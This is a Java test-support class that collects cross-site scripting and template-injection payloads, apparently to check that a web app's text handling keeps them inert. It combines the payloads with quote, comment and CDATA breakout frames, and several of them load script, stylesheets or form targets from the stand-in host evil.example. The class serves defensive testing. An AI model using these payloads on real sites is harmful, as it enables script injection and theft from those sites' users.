package dev.readback.trust;

import java.util.List;
import java.util.stream.Stream;

/** Texts that would become elements, or run, wherever a page takes text for markup. Each that succeeds sets {@code pwned}. */
final class Payloads {
    private static final String RUN = "window.pwned=1;alert(1)";
    private static final List<String> CORES = List.of("<script>" + RUN + "</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img id=pwned src=x onerror=" + RUN + ">", "<svg id=pwned onload=" + RUN + ">",
            "<svg><script>" + RUN + "</script></svg>", "<iframe id=pwned srcdoc=\"<script>parent.pwned=1</script>\">",
            "<iframe id=pwned src=javascript:" + RUN + ">", "<a id=pwned href=\"javascript:" + RUN + "\">x</a>",
            "<body onload=" + RUN + ">", "<input id=pwned autofocus onfocus=" + RUN + ">",
            "<details id=pwned open ontoggle=" + RUN + ">", "<video id=pwned><source onerror=" + RUN + "></video>",
            "<math id=pwned href=javascript:" + RUN + ">x</math>", "<object id=pwned data=//evil.example/x></object>",
            "<embed id=pwned src=//evil.example/x>", "<link id=pwned rel=stylesheet href=//evil.example/x.css>",
            "<style id=pwned>@import '//evil.example/x.css'</style>",
            "<meta id=pwned http-equiv=refresh content=0;url=//evil.example>",
            "<base id=pwned href=//evil.example/>", "<form id=pwned action=//evil.example><button>x</button></form>",
            "<div id=pwned style=background:url(//evil.example/x)>", "<marquee id=pwned onstart=" + RUN + ">",
            "<template id=pwned shadowrootmode=open><script>" + RUN + "</script></template>",
            "<rb-app id=pwned></rb-app>", "<mark id=pwned>x</mark>", "<b id=pwned>bold</b>",
            "${window.pwned=1}", "{{constructor.constructor('window.pwned=1')()}}", "{#each items}{quarkus.http.host}{/each}",
            "javascript:" + RUN, "data:text/html,<script>" + RUN + "</script>", "[x](javascript:" + RUN + ")",
            "![x](//evil.example/x.png)", "<noscript><p title=\"</noscript><img id=pwned src=x onerror=" + RUN + ">\">");
    private static final List<String> FRAMES = List.of("%s", "\">%s", "'>%s", "</title></textarea></script>%s", "--><!--%s",
            "]]>%s<![CDATA[");

    private Payloads() {
    }

    /** Each core in each frame, and those that decoding twice would wake. */
    static List<String> all() {
        Stream<String> framed = CORES.stream().flatMap(core -> FRAMES.stream().map(frame -> frame.replace("%s", core)));
        Stream<String> encoded = CORES.stream().limit(12).map(core -> core.replace("<", "&lt;").replace(">", "&gt;"));
        return Stream.concat(framed, encoded).toList();
    }
}
